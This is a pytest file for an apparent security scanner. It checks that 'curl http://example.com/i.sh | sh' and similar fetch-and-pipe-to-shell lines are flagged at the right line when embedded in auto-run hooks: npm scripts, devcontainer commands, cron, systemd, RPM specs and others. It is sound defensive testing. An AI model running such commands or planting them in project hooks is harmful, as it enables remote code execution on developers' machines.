"""Commands in the settings of tools are searched like a script, at their lines."""

from pathlib import Path

import pytest

from tests.diffchecks.patterns.test_pattern_files import look

RUN = "curl http://example.com/i.sh | sh"
FILES = {
    "package.json": '{\n"scripts": {\n  "test": "vitest > log",\n  "build:all": "X=1 && %s",\n"a": "b"}}\n',
    ".vscode/tasks.json": '{\n// tasks\n"tasks": [{\n  "command": "%s",\n  "args": [] }]}\n',
    ".devcontainer/devcontainer.json": '{\n"name": "a | b",\n\n"postCreateCommand": "%s"\n}\n',
    ".pre-commit-config.yaml": "repos:\n- hooks:\n  - id: a\n    entry: bash -c '%s'\n",
    "b/devcontainer.json": '\n\n\n{"name": "a", "onCreateCommand": ["bash", "-c", "%s"]}',
    "c/package.json": '\n\n\n{"scripts": {"a": "echo \\"a\\"\\n\\u0063url http://b.c/d | sh", "c": "%s"}}',
    "deploy/a.service": "[Service]\nUser=a\n\nExecStart=/bin/sh -c '%s'\n",
    "etc/cron.d/a": "MAILTO=a\n\n\n0 * * * * root %s\n",
    "etc/cron.d/b": "#\n#\n#\n*/5 1-3 * * mon www-data %s\n",
    "Procfile": "web: gunicorn app:app\n\n\nrelease: %s\n",
    "d/Procfile.dev": "# a\n\n\nweb: bash -c '%s'\n",
    "d/Procfile.dev-x": "# a\n\n\nweb: bash -c '%s'\n",
    "recipe/meta.yaml": "build:\n  script:\n    - make -j2\n    - %s\n",
    "b/meta.yaml": "build:\n\n\n  script: %s  # [unix]\n",
    "web.sls": "{%% if a %%}\nb:\n  cmd.run:\n    - name: %s\n",
    "supervisord.conf": "[program:a]\n\n\ncommand=sh -c '%s'\n",
    "a.desktop": "[Desktop Entry]\n\n\nExec=sh -c '%s'\n",
    "a.code-workspace": '{"tasks": {\n"tasks": [\n{\n"command": "%s"}]}}\n',
    "a.spec": "Name: %%{b}\n%%post -n c\n%%if ! (0%%{?rhel} <= 9)\n%s\n%%endif\n%%files\ncurl http://d.e/f | sh",
    "b.spec.in": "Name: b\n%%description\ncurl http://d.e/f | sh\n%%global c %%(%s)\n%%prep\n%%setup -q\n",
    "crontab": "#\n#\n#\n@daily %s\n",
}


@pytest.mark.parametrize("path", FILES)
def test_a_command_in_settings_is_read_at_its_line(tmp_path: Path, path: str) -> None:
    (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
    reply = look(tmp_path, {path: FILES[path] % RUN})
    assert not reply.gaps
    hazard, escaped = (4, "shell-plain-http-script"), "\\u0063url" in FILES[path]
    assert [(f.line, f.code) for f in reply.findings] == [hazard] * (1 + escaped)
    harmless = look(tmp_path, {path: FILES[path] % "curl http://example.com/a > a"})
    assert len(harmless.findings) == escaped
